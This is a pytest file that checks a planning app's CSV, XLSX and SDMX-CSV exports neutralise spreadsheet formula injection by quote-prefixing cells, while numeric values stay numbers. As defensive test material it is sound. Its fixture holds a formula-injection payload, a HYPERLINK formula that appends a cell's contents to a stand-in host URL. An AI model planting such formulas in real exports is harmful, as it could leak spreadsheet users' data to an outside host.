"""An export cannot run formulas in a spreadsheet; numbers stay numbers."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from test_export_support import build, publish

from plantrack.observations.export import SDMX_COLUMNS, export_bytes, select_observations
from plantrack.observations.models import Observation
from plantrack.plans.models import Plan
from plantrack.tabular.writers import neutralise

FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"Xem nguồn")'
MINUS_TEXT = "-2,5 theo báo cáo"


@pytest.fixture
def figure(province, industry):
    setting = build(province, industry)
    return publish(setting.growth, province, "2024", "-2.5", source=FORMULA, comment=MINUS_TEXT)


def exported(file_format: str) -> bytes:
    selected = select_observations(Observation.objects.all(), plans=Plan.objects.all())
    return export_bytes(selected, file_format)


def csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+84 206 3852 000", "'+84 206 3852 000"),
        ("-2,5 theo báo cáo", "'-2,5 theo báo cáo"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Báo cáo số 12 = 3 trang", "Báo cáo số 12 = 3 trang"),
        ("", ""),
    ],
)
def test_text_that_a_spreadsheet_could_run_gets_a_quote(text, written):
    assert neutralise(text) == written


def test_csv_quotes_formula_texts_and_keeps_the_negative_number(figure):
    (row,) = csv_rows(exported("csv"))

    assert row["source"] == "'" + FORMULA
    assert row["comment"] == "'" + MINUS_TEXT
    assert row["value"] == "-2.5"  # a number, not quoted


def test_xlsx_writes_formula_texts_as_quoted_text_and_numbers_as_numbers(figure):
    data = exported("xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    header = [cell.value for cell in sheet[1]]
    source = sheet.cell(row=2, column=header.index("source") + 1)
    comment = sheet.cell(row=2, column=header.index("comment") + 1)
    value = sheet.cell(row=2, column=header.index("value") + 1)

    assert (source.value, source.data_type, source.quotePrefix) == (FORMULA, "s", True)
    assert (comment.value, comment.data_type, comment.quotePrefix) == (MINUS_TEXT, "s", True)
    assert (value.value, value.data_type) == (-2.5, "n")
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_sdmx_csv_quotes_the_source_too(figure):
    rows = list(csv.reader(io.StringIO(exported("sdmx-csv").decode("utf-8"))))

    record = dict(zip(SDMX_COLUMNS, rows[1], strict=True))
    assert record["SOURCE"] == "'" + FORMULA
    assert record["OBS_VALUE"] == "-2.5"


def test_an_xlsx_export_reimports_a_formula_text_exactly(figure, planner):
    from plantrack.observations.imports import import_observations

    report = import_observations(exported("xlsx"), "so-lieu.xlsx", user=planner)

    assert report.errors == []
    assert (report.unchanged, report.changed) == (1, 0)
    figure.refresh_from_db()
    assert figure.source == FORMULA
